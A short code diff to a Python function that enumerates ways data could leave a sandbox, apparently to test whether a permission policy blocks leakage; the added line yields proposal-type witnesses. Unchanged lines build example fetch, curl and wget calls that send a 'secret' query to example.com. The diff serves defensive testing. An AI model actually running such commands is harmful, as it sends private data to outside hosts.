@@ -91,6 +91,7 @@ def _ways_out(subject: Subject) -> Iterator[Witness]:
         if rule.host is None or "**" in rule.host:
             yield Witness("fetch", {"url": "https://example.com/?q=secret"})
     yield from map(command_call, _SENDING)
+    yield from (Witness("propose", {"kind": kind}) for kind in subject.source.proposals.kinds if kind != "label")
     for program in ("curl", "wget"):
         yield command_call([program, "https://example.com/?q=secret"])
     for rule in subject.source.rules:
